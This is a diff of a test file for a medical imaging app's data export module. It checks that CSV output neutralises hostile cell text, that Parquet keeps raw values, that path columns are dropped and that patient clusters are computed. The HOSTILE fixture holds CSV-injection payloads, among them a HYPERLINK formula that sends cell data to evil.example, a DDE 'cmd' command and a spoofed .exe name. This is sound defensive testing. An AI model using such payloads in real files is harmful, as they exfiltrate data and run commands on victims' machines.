@@ -1,4 +1,5 @@
-"""core.export: spreadsheet-safe CSV, raw Parquet, and columns that never leave the app."""
+"""core.export: spreadsheet-safe CSV, raw Parquet, columns that never leave the app, and each
+patient's cluster."""
 
 from __future__ import annotations
 
@@ -9,7 +10,16 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from core.export import export_columns, private_columns, to_csv_bytes, to_parquet_bytes
+from core.export import (
+    MAX_CELL_CHARS,
+    TRUNCATED,
+    export_columns,
+    labeled_export,
+    patient_clusters,
+    private_columns,
+    to_csv_bytes,
+    to_parquet_bytes,
+)
 
 
 def _csv_rows(data: bytes) -> list[list[str]]:
@@ -24,7 +34,7 @@ def _csv_rows(data: bytes) -> list[list[str]]:
         ("-2", "'-2"),
         ("@x", "'@x"),
         ("\t=1+1", "'\t=1+1"),
-        ("\r=1+1", "'\r=1+1"),
+        ("\r=1+1", "'\n=1+1"),  # a carriage return becomes a line feed
         ("  =HYPERLINK(\"http://x\")", "'  =HYPERLINK(\"http://x\")"),
         ("Dilated cardiomyopathy", "Dilated cardiomyopathy"),
         ("a=b", "a=b"),
@@ -121,3 +131,63 @@ def test_export_columns_on_ingested_images(demo_dataset):
     assert len(out) == len(images)
     leaked = [v for column in out.columns for v in out[column] if isinstance(v, str) and v.startswith("/")]
     assert leaked == []
+
+
+HOSTILE = {
+    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "rtl_name": "Jane \u202egnp.exe",
+    "rtl_formula": "\u202e=1+1",
+    "controls": "a\x00b\x07c\x1bd\x7fe\x85f",
+    "crlf": "line1\r\nline2\rline3",
+    "long": "x" * (MAX_CELL_CHARS + 5000),
+}
+
+
+def test_csv_neutralises_hostile_text_and_parquet_keeps_it():
+    df = pd.DataFrame({"patient_id": list(HOSTILE), "name": list(HOSTILE.values()), "n": range(len(HOSTILE))})
+    rows = {row[0]: row[1] for row in _csv_rows(to_csv_bytes(df))[1:]}
+    assert rows["formula"].startswith("'=HYPERLINK")
+    assert rows["dde"].startswith("'@SUM")
+    assert rows["rtl_name"] == "Jane gnp.exe"
+    assert rows["rtl_formula"] == "'=1+1"  # removing the override cannot unmask a formula
+    assert rows["controls"] == "abcdef"
+    assert rows["crlf"] == "line1\nline2\nline3"
+    assert rows["long"] == "x" * MAX_CELL_CHARS + TRUNCATED
+    text = to_csv_bytes(df).decode("utf-8")
+    assert not any(ch in text for ch in ("\u202e", "\x00", "\x07", "\x1b", "\x7f", "\x85", "\r"))
+    back = pd.read_parquet(io.BytesIO(to_parquet_bytes(df)))
+    assert back["name"].tolist() == list(HOSTILE.values())  # Parquet keeps the values
+
+
+def test_csv_neutralises_headers_too():
+    rows = _csv_rows(to_csv_bytes(pd.DataFrame({"\u202e=evil\x00": [1]})))
+    assert rows[0] == ["'=evil"]
+
+
+def test_export_of_hostile_patients_has_no_path_columns_in_either_format(tmp_path, monkeypatch):
+    monkeypatch.setenv("SCANATLAS_CACHE", str(tmp_path))
+    patients = pd.DataFrame({
+        "patient_id": ["p1", "p2"],
+        "path": ["/srv/pacs/jane/1.dcm", "/srv/pacs/rick/2.dcm"],
+        "source_path": ["/home/ann/a", "/home/ann/b"],
+        "finding": ["=cmd()", "\u202enormal"],
+    })
+    for deidentify in (True, False):
+        export = labeled_export(patients, ["p1", "p2"], np.array([0, 1]), None, deidentify=deidentify, is_admin=True)
+        assert {"path", "source_path"}.isdisjoint(export.table.columns)
+        assert {"path", "source_path"} <= set(export.left_out)
+        for data in (to_csv_bytes(export.table), to_parquet_bytes(export.table)):
+            assert b"/srv/pacs" not in data and b"/home/ann" not in data
+        back = pd.read_parquet(io.BytesIO(to_parquet_bytes(export.table)))
+        assert back["finding"].tolist() == ["=cmd()", "\u202enormal"]
+
+
+def test_patient_clusters_takes_each_patients_majority_and_ignores_noise():
+    ids = ["a", "a", "a", "b", "b", "c", "c", "d"]
+    labels = np.array([2, 2, 1, 0, 3, -1, 5, -1])
+    clusters = patient_clusters(ids, labels)
+    assert clusters.to_dict() == {"a": 2, "b": 0, "c": 5}  # a tie goes to the lowest id; d is all noise
+    assert patient_clusters(["x"], np.array([-1])).empty
+    with pytest.raises(ValueError, match="2 labels for 1 rows"):
+        patient_clusters(["x"], np.array([0, 1]))
